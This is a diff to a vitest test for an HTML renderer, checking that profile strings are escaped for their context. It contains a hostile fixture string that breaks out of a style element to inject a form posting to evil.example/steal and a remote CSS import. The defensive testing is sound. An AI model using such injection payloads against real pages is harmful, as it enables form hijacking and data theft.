@@ -8,20 +8,20 @@ import { join } from "node:path";
 import { describe, expect, it } from "vitest";
 import { cssString } from "../../src/render/to-html.js";
 import { goodPracticeNote } from "../fixtures/records.js";
-import { runCli } from "../helpers/run-cli.js";
+import { runCliInProcess } from "../helpers/run-cli.js";
 import { tempDir } from "./helpers.js";
 import { userProfile } from "./profiles.js";
 
 const hostile = `OFFICIAL"; } </style><form action="https://evil.example/steal"><input name="x"></form><style> @import url(https://evil.example/x.css); p { content: "`;
 
 describe("item 5: profile strings are escaped for their context", () => {
-  it("a protective marking holding </style><form …> stays text: one <style> element, no form, no import", () => {
+  it("a protective marking holding </style><form …> stays text: one <style> element, no form, no import", async () => {
     const dir = tempDir("markup");
     const profile = userProfile(dir, { protectiveMarking: hostile, authority: { name: 'Fault <b>Council</b> & "Co"' }, overrides: [{ path: "authority", reason: "Test." }] });
     const input = join(dir, "note.json");
     writeFileSync(input, JSON.stringify(goodPracticeNote()));
     const out = join(dir, "out");
-    const r = runCli(["render", input, "--format", "html", "--out", out, "--profile", profile]);
+    const r = await runCliInProcess(["render", input, "--format", "html", "--out", out, "--profile", profile]);
     expect(r.stderr).toBe("");
     expect(r.status).toBe(0);
     const html = readFileSync(join(out, "GPN-2026-12.good-practice-note.html"), "utf8");
